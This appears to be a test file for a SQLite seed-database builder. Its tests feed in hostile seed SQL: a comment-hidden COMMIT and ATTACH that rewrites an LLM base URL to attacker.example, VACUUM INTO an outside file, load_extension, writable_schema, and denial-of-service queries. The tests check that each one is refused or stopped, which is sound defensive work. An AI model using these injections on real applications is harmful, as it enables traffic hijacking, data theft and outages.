import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { test } from "node:test";
import Database from "better-sqlite3";
import { buildSeedDatabase, type SeedBuildLimits } from "./seed-db.ts";
import { tempDir } from "../testing/awm-fixture.ts";
import type { SchemaRecord, SeedRecord } from "./types.ts";

const schema: SchemaRecord = { scenario: "x", db_path: "", db_schema: { tables: [{ name: "t", ddl: "CREATE TABLE t (v TEXT);", indexes: [] }] } };
const seedOf = (insert_statements: string[]): SeedRecord => ({
  scenario: "x",
  tables_count: 1,
  inserts_count: insert_statements.length,
  sample_data: { tables: [{ table_name: "t", insert_statements }] },
});
const build = (dir: string, statements: string[], limits?: SeedBuildLimits) => buildSeedDatabase(path.join(dir, "seed.db"), schema, seedOf(statements), limits);
const values = (dir: string) => {
  const db = new Database(path.join(dir, "seed.db"), { readonly: true });
  try {
    return (db.prepare("SELECT v FROM t ORDER BY rowid").all() as { v: string }[]).map((row) => row.v);
  } finally {
    db.close();
  }
};

/** A file standing in for the studio's own database, with the settings row the attack rewrites. */
function studioDatabase(dir: string): string {
  const file = path.join(dir, "studio.db");
  const db = new Database(file);
  db.exec("CREATE TABLE Setting (key TEXT PRIMARY KEY, value TEXT); INSERT INTO Setting VALUES ('llm.baseUrl', 'https://api.openai.com/v1');");
  db.close();
  return file;
}

test("hostile seed: a comment-hidden COMMIT; ATTACH of the studio database is refused by SQLite and the file is unchanged", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const studio = studioDatabase(dir);
  const before = fs.readFileSync(studio);
  const attack = `/* ' */ COMMIT; ATTACH DATABASE '${studio}' AS s; INSERT OR REPLACE INTO s.Setting (key, value) VALUES ('llm.baseUrl', 'http://attacker.example/v1'); /* ' */`;
  const result = await build(dir, ["INSERT INTO t (v) VALUES ('before');", attack, "INSERT INTO t (v) VALUES ('after');"]);
  assert.deepEqual(fs.readFileSync(studio), before);
  const failed = result.inserts[1]!;
  assert.equal(failed.ok, false);
  assert.match(failed.error!, /^not authorized: opening another database file \('.*studio\.db'\) by ATTACH or VACUUM is refused \(seed SQL may only change its own database\)$/);
  assert.deepEqual(values(dir), ["before", "after"]);
});

test("hostile seed: COMMIT; VACUUM INTO a path outside writes nothing there", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const outside = path.join(tempDir("awm-hostile-outside-"), "stolen.db");
  const result = await build(dir, [`INSERT INTO t (v) VALUES ('x'); COMMIT; VACUUM INTO '${outside}';`]);
  assert.equal(fs.existsSync(outside), false);
  assert.match(result.inserts[0]!.error!, /ATTACH or VACUUM is refused/);
});

test("hostile seed: load_extension() is refused", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const result = await build(dir, ["INSERT INTO t (v) VALUES (load_extension('/usr/lib/x86_64-linux-gnu/libsqlite3.so.0'));"]);
  assert.match(result.inserts[0]!.error!, /load_extension\(\) is refused/);
});

test("hostile seed: PRAGMA writable_schema is refused and the schema stays as created", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const result = await build(dir, ["PRAGMA writable_schema = ON; UPDATE sqlite_master SET sql = 'CREATE TABLE t (v TEXT, w BLOB)' WHERE name = 't';"]);
  assert.match(result.inserts[0]!.error!, /PRAGMA writable_schema is refused/);
  const db = new Database(path.join(dir, "seed.db"), { readonly: true });
  try {
    assert.equal((db.prepare("SELECT sql FROM sqlite_master WHERE name = 't'").get() as { sql: string }).sql, "CREATE TABLE t (v TEXT)");
  } finally {
    db.close();
  }
});

test("hostile seed: a value larger than SQLite's heap cap fails that statement with SQLite's words", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const result = await build(dir, ["INSERT INTO t (v) VALUES ('before');", "INSERT INTO t (v) VALUES (printf('%.*c', 900000000, 'z'));", "INSERT INTO t (v) VALUES ('after');"]);
  assert.equal(result.inserts[1]!.error, "out of memory");
  // SQLite rolled its whole transaction back on the failure; the statements before it were run again.
  assert.deepEqual(values(dir), ["before", "after"]);
});

const HUNDRED_MILLION_ROWS = "INSERT INTO t (v) SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 100000000) SELECT x FROM c);";

test("hostile seed: a recursive CTE of 10^8 rows is stopped at the statement cap, the studio keeps answering, and the next build works", async () => {
  const dir = tempDir("awm-hostile-seed-");
  let ticks = 0;
  const ticker = setInterval(() => ticks++, 50);
  const started = performance.now();
  try {
    const result = await build(dir, ["INSERT INTO t (v) VALUES ('kept');", HUNDRED_MILLION_ROWS, "INSERT INTO t (v) VALUES ('later');"], { statementMs: 1_000 });
    const elapsed = performance.now() - started;
    assert.equal(result.inserts[1]!.error, "stopped: this statement ran longer than the limit of 1 s for one seed statement");
    assert.equal(result.inserts[1]!.table, "t");
    assert.equal(result.inserts[1]!.index, 1);
    assert.deepEqual(values(dir), ["kept", "later"]);
    assert.ok(elapsed < 5_000, `stopped after ${Math.round(elapsed)} ms`);
    assert.ok(ticks >= (elapsed / 50) * 0.5, `the event loop ran ${ticks} times in ${Math.round(elapsed)} ms`);
  } finally {
    clearInterval(ticker);
  }
  const next = await build(tempDir("awm-hostile-seed-"), ["INSERT INTO t (v) VALUES ('next');"]);
  assert.equal(next.seedFailures, 0);
  assert.equal(next.seedRows, 1);
});

test("hostile seed: past the build's own limit the running statement is stopped and the rest are not run", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const result = await build(dir, [HUNDRED_MILLION_ROWS, "INSERT INTO t (v) VALUES ('never');"], { statementMs: 10_000, buildMs: 1_000 });
  assert.equal(result.inserts[0]!.error, "stopped: building the seed database took longer than its limit of 1 s");
  assert.equal(result.inserts[1]!.error, "not run: building the seed database reached its limit of 1 s before this statement");
  assert.deepEqual(values(dir), []);
});

test("hostile seed: a value of 400,000 semicolons is one statement, split in one pass, and the inserts around it apply", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const semicolons = ";".repeat(400_000);
  // The previous splitter asked SQLite at every ';' whether the text so far was complete: this build ran out its 4 s.
  const result = await build(dir, ["INSERT INTO t (v) VALUES ('before');", `INSERT INTO t (v) VALUES ('${semicolons}');`, "INSERT INTO t (v) VALUES ('after');"], { statementMs: 1_000, buildMs: 4_000 });
  assert.deepEqual(result.inserts.map((insert) => insert.error ?? "ok"), ["ok", "ok", "ok"]);
  assert.deepEqual(values(dir).map((value) => value.length), ["before".length, semicolons.length, "after".length]);
});

test("hostile seed: a trigger body of 20,000 statements ends at its END, and the statement after it runs", async () => {
  const dir = tempDir("awm-hostile-seed-");
  const body = "INSERT INTO t (v) VALUES (CASE WHEN 1 THEN 'x' END);".repeat(20_000);
  const result = await build(dir, [`CREATE TRIGGER grow AFTER INSERT ON t WHEN NEW.v = 'go' BEGIN ${body} END; INSERT INTO t (v) VALUES ('after');`], { statementMs: 2_000, buildMs: 8_000 });
  assert.deepEqual(result.inserts.map((insert) => insert.error ?? "ok"), ["ok"]);
  assert.deepEqual(values(dir), ["after"]);
});

test("hostile seed: a statement whose every step is costly (a 20-million-character printf per row) is stopped near its limit", { timeout: 20_000 }, async () => {
  const dir = tempDir("awm-hostile-seed-");
  // SQLite asked whether to go on every 10,000 of its steps, so this ran some 30 s against a 1 s limit. The test's timeout is the budget.
  const costly = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 300) INSERT INTO t (v) SELECT length(printf('%.*c', 20000000 + i, 'x')) FROM n;";
  const result = await build(dir, [costly, "INSERT INTO t (v) VALUES ('after');"], { statementMs: 1_000, buildMs: 15_000 });
  assert.equal(result.inserts[0]!.error, "stopped: this statement ran longer than the limit of 1 s for one seed statement");
  assert.deepEqual(values(dir), ["after"]);
});
